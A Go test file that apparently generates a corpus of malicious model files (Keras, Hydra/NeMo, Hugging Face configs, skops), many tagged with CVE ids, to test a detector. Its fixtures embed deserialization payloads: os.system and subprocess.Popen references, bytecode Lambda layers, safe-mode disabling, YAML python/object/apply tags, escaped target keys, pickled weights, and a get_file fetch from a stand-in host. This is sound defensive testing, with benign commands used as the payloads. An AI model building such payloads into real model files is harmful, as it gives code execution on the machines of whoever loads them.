package floor_test

import (
	"encoding/json"
	"os"
	"path"
	"strings"
)

// keras writes a model of Keras 3 around the configuration of layers.
func keras(f facts, layers string, more ...member) []byte {
	return zipOf(f, append([]member{
		{name: "metadata.json", data: []byte(`{"keras_version": ` + quote(f.or("3.6.0")) + `, "date_saved": ` + quote("2025-01-01@00:00:00"+f.comment) + `}`)},
		{name: "config.json", data: []byte(model(f, layers))},
	}, more...)...)
}

// model is the configuration of a model of layers.
func model(f facts, layers string) string {
	return `{"module": "keras", "class_name": "Sequential", "config": {"name": ` + quote("model"+f.producer) + `, "layers": [` + layers +
		`]}, "registered_name": null, "build_config": {"input_shape": [null, 4]}, "keras_version": ` + quote(f.or("3.6.0")) + `}`
}

// quote writes a text in JSON.
func quote(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// layer is a layer of Keras.
func layer(class, config string) string {
	return `{"module": "keras.layers", "class_name": "` + class + `", "config": ` + config + `}`
}

// function is a reference to a function.
func function(module, name string) string {
	return `{"module": "` + module + `", "class_name": "function", "config": "` + name + `", "registered_name": "` + name + `"}`
}

// configs returns the configurations that make or call what they name.
func configs() []*entry {
	out := make([]*entry, 0, 64)
	add := func(id, what string, runs bool, layers string, more ...member) {
		out = append(out, &entry{
			ids: []string{id}, format: "keras", what: what, name: "model.keras", runs: runs,
			make: func(f facts) []byte { return keras(f, layers, more...) },
		})
	}
	const code = `{"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA", "defaults": null, "closure": null}}`
	lambda := layer("Lambda", `{"function": `+code+`}`)
	add("CVE-2024-3660", "has a layer with bytecode", true, lambda)
	add("CVE-2025-1550", "has a layer that is a function of a module of Python", true,
		`{"module": "os", "class_name": "function", "config": "system", "registered_name": "system", "inbound_nodes": [{"args": [`+quote(command)+`], "kwargs": {}}]}`)
	add("CVE-2025-1550/class", "has a layer that is a class of a module of Python", true, `{"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}}`)
	add("CVE-2025-8747", "has a layer that fetches a file", true, layer("Lambda", `{"function": `+function("keras.utils", "get_file")+
		`, "arguments": {"origin": "http://canary.invalid/x", "cache_dir": "."}}`))
	add("CVE-2025-9906", "turns off the safe mode and then has bytecode", true, layer("Lambda", `{"function": `+
		function("keras.config", "enable_unsafe_deserialization")+`}`)+","+lambda)
	add("CVE-2025-12058", "has a layer whose words are a file", false, layer("StringLookup", `{"vocabulary": "/etc/hostname"}`))
	add("CVE-2025-12058/address", "has a layer whose words are at an address", false, layer("StringLookup", `{"vocabulary": "http://canary.invalid/"}`))
	add("CVE-2025-49655", "has a layer that unpickles a module of PyTorch", true,
		layer("TorchModuleWrapper", `{"module": {"class_name": "__bytes__", "config": {"value": "gASVAAAAAAAAAE4u"}}}`))
	add("keras-operations", "calls an operation of Keras when it is loaded", false,
		`{"module": "keras.src.ops.core", "class_name": "Map", "config": {"f": `+function("builtins", "print")+`}}`)
	add("keras-nested-layers", "has bytecode in a layer of a layer", true,
		layer("TimeDistributed", `{"layer": `+layer("Bidirectional", `{"layer": `+lambda+`}`)+`}`))
	add("keras-initializer", "has a function of Python as an initializer", true, layer("Dense", `{"units": 1, "kernel_initializer": `+function("os", "system")+`}`))
	add("keras-load-model", "loads another model as a layer", true, `{"module": "keras.saving", "class_name": "load_model", "config": {"filepath": "canary.h5"}}`)
	add("keras-tfsm", "has a layer that runs a saved model of TensorFlow", true, layer("TFSMLayer", `{"filepath": "canary", "call_endpoint": "serve"}`))
	add("keras-registered", "makes a class that its own package registered", true,
		`{"module": "quintain_canary", "class_name": "Layer", "config": {}, "registered_name": "canary>Layer"}`)
	add("keras-lambda-old", "has bytecode as the oldest Keras wrote it", true,
		layer("Lambda", `{"function_type": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAADAAAA", null, null], "module": "canary"}`))
	add("keras-typespec", "makes a type that is a class of Python", true, `{"class_name": "__typespec__", "spec_name": "os.system", "module": "os", "serialized": ["true"], "config": {}}`)
	add("keras-standardize", "has a function of Python to prepare text", true, layer("TextVectorization", `{"standardize": `+function("os", "system")+`}`))
	add("keras-activation", "has a function of Python as an activation", true, layer("Dense", `{"units": 1, "activation": `+function("builtins", "eval")+`}`))
	add("keras-activation-path", "has a function of a part of Keras that runs more", true, layer("Dense", `{"units": 1, "activation": `+function("keras.src.utils.file_utils", "get_file")+`}`))
	add("keras-policy", "has a class of Python as a type of numbers", true, layer("Dense", `{"units": 1, "dtype": {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}}}`))
	add("keras-alias", "says that a layer with bytecode is registered as another", true,
		`{"module": "keras.layers", "class_name": "Dense", "registered_name": "Lambda", "config": {"function": `+code+`}}`)
	add("keras-inbound", "has bytecode among the arguments of a node", true,
		`{"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "inbound_nodes": [{"args": [`+code+`], "kwargs": {}}]}`)
	add("keras-build-config", "has bytecode among what a layer is built with", true,
		`{"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}, "build_config": {"shapes_dict": `+code+`}}`)
	add("keras-pickle-weights", "has a pickle where its weights are expected", true, layer("Dense", `{"units": 1}`), member{name: "model.weights.npz", data: evil()})
	add("keras-npz-objects", "has weights in arrays of objects", true, layer("Dense", `{"units": 1}`),
		member{name: "model.weights.npz", data: zipOf(facts{}, member{name: "a.npy", data: npy("'|O'", evil())})})
	add("keras-two-configs", "has two configurations, of which a loader takes one", true, layer("Dense", `{"units": 1}`),
		member{name: "config.json", data: []byte(model(facts{}, lambda))})
	compile := &entry{
		ids: []string{"keras-compile"}, format: "keras", name: "model.keras", runs: true, what: "has a function of Python as its loss",
		make: func(f facts) []byte {
			b := strings.Replace(model(f, layer("Dense", `{"units": 1}`)), `"build_config"`, `"compile_config": {"loss": `+function("os", "system")+`}, "build_config"`, 1)
			return zipOf(f, member{name: "metadata.json", data: []byte(`{"keras_version": ` + quote(f.or("3.6.0")) + `}`)}, member{name: "config.json", data: []byte(b)})
		},
	}
	prefix := &entry{
		ids: []string{"keras-prefix"}, format: "keras", name: "model.keras", runs: true, named: true, what: "has bytecode in an archive behind other bytes",
		make: func(f facts) []byte { return append([]byte("#!/bin/true\n"), keras(f, lambda)...) },
	}
	old := &entry{
		ids: []string{"CVE-2025-9905"}, format: "keras", name: "model.h5", runs: true, what: "has bytecode in a format whose loader has no safe mode",
		make: func(facts) []byte {
			b, err := os.ReadFile("../keras/testdata/lambda.h5")
			if err != nil {
				panic(err)
			}
			return b
		},
	}
	return append(append(out, compile, prefix, old), repositories()...)
}

// repositories returns the configurations of other libraries.
func repositories() []*entry {
	out := make([]*entry, 0, 32)
	text := func(id, format, name, what, body string) {
		out = append(out, &entry{
			ids: []string{id}, format: format, what: what, name: name, runs: true, named: true,
			make: func(f facts) []byte {
				if path.Ext(name) == ".json" && strings.HasPrefix(body, "{") {
					return []byte(`{"license": ` + quote(f.license) + `, "transformers_version": ` + quote(f.or("4.50.0")) + `, ` + body[1:])
				}
				return []byte(strings.ReplaceAll(strings.ReplaceAll(body, "$VERSION", quote(f.or("1.0"))), "$LICENSE", quote(f.license)))
			},
		})
	}
	const target = "version: $VERSION\nlicense: $LICENSE\nencoder:\n  _target_: os.system\n  command: \"" + command + "\"\n"
	out = append(out, &entry{
		ids: []string{"CVE-2025-23304"}, format: "hydra", name: "model.nemo", runs: true, what: "has a configuration that names the function to make a part with",
		make: func(f facts) []byte {
			return tarOf(f, file("./model_config.yaml", []byte(strings.ReplaceAll(strings.ReplaceAll(target, "$VERSION", quote(f.or("1.0"))), "$LICENSE", quote(f.license)))),
				file("./model_weights.ckpt", checkpoint(f, harmless())))
		},
	})
	text("hydra-target", "hydra", "config.yaml", "names os.system as the maker of a part", target)
	text("hydra-partial", "hydra", "config.yaml", "names a function to be called later", "a:\n  _target_: functools.partial\n  _args_: [\"${eval:1}\"]\n  _partial_: true\n")
	text("hydra-get-method", "hydra", "config.yaml", "names a function that finds functions", "a:\n  _target_: hydra.utils.get_method\n  path: os.system\n")
	text("hydra-json", "hydra", "config.json", "names os.system in JSON", `{"model": {"_target_": "os.system", "command": "true"}}`)
	text("hydra-eval", "hydra", "config.yaml", "names eval as the maker of a part", "a:\n  _target_: builtins.eval\n  _args_: [\"1\"]\n")
	text("hydra-anchor", "hydra", "config.yaml", "names a function in a part that another part merges", "x: &x\n  _target_: os.system\na:\n  <<: *x\n  command: \"true\"\n")
	text("hydra-class-path", "hydra", "config.yaml", "names a class with its arguments", "model:\n  class_path: subprocess.Popen\n  init_args:\n    args: [\"true\"]\n")
	text("hydra-target-params", "hydra", "config.yaml", "names a target with its parameters, as image models do", "model:\n  target: os.system\n  params:\n    command: \"true\"\n")
	text("hydra-quoted-key", "hydra", "config.yaml", "writes the key with escapes", "a: {\"\\x5ftarget\\x5f\": os.system, command: \"true\"}\n")
	text("hydra-json-escape", "hydra", "config.json", "writes the key with escapes in JSON", `{"model": {"\u005ftarget_": "os.system", "command": "true"}}`)
	text("yaml-apply", "hydra", "config.yaml", "has a tag that calls a function", "a: !!python/object/apply:os.system [\""+command+"\"]\n")
	text("yaml-new", "hydra", "config.yaml", "has a tag that makes an object", "a: !!python/object/new:subprocess.Popen [[\"true\"]]\n")
	text("yaml-module", "hydra", "config.yaml", "has a tag that imports a module", "a: !!python/module:quintain_canary\n")
	text("yaml-directive", "hydra", "config.yaml", "calls a function by a tag that it defines", "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system [\"true\"]\n")
	text("auto-map", "auto_map", "config.json", "names classes in the code of its repository", `{"model_type": "canary", "auto_map": {"AutoModel": "modeling_canary.Model"}}`)
	text("auto-map-remote", "auto_map", "config.json", "names classes in the code of another repository", `{"model_type": "canary", "auto_map": {"AutoModel": "someone/canary--modeling.Model"}}`)
	text("auto-map-tokenizer", "auto_map", "tokenizer_config.json", "names a tokenizer in the code of its repository", `{"auto_map": {"AutoTokenizer": ["tok.Tok", null]}}`)
	text("trust-remote-code", "auto_map", "config.json", "decides for its reader that the code of a repository may run", `{"trust_remote_code": true, "model_type": "canary"}`)
	text("custom-pipelines", "auto_map", "config.json", "names a pipeline in the code of its repository", `{"custom_pipelines": {"canary": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}}`)
	text("sentence-modules", "auto_map", "modules.json", "names a class of Python as a part of a model", `[{"idx": 0, "name": "0", "path": "", "type": "quintain_canary.Model"}]`)
	for _, x := range []struct{ id, schema string }{
		{"CVE-2025-54412", `{"__class__": "system", "__module__": "os", "__loader__": "OperatorFuncNode", "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}}`},
		{"CVE-2025-54413", `{"__class__": "list", "__module__": "builtins", "__loader__": "MethodNode", "content": {"func": "system", "obj": {"__class__": "str", "__module__": "os", "__loader__": "ObjectNode"}}}`},
	} {
		out = append(out, &entry{
			ids: []string{x.id}, format: "skops", name: "model.skops", runs: true, what: "says of a node one class to the reader and makes another",
			make: func(f facts) []byte {
				return zipOf(f, member{name: "schema.json", data: []byte(`{"protocol": 2, "_skops_version": ` + quote(f.or("0.11.0")) + `, ` + x.schema[1:])})
			},
		})
	}
	out = append(out, &entry{
		ids: []string{"CVE-2025-54886"}, format: "skops", name: "model.skops", runs: true, what: "is a pickle where a card expects a format without code",
		make: func(f facts) []byte { return gzipOf(f, evil()) },
	})
	return out
}
